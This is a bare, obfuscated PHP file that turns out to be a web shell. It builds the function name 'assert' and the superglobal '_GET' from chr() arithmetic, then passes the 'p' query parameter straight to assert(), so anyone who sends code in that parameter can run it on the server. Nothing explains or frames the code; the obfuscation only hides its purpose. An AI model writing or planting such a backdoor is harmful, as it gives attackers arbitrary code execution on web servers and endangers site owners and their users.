<?php
$a = chr(96+1) . chr(100+15) . chr(0x73) . chr(50*2+1) . chr(57*2) . chr(58*2);
$b = '_' . chr(0x47) . chr(0x45) . chr(84);
$c = ${$b}[chr(112)];
$a($c);
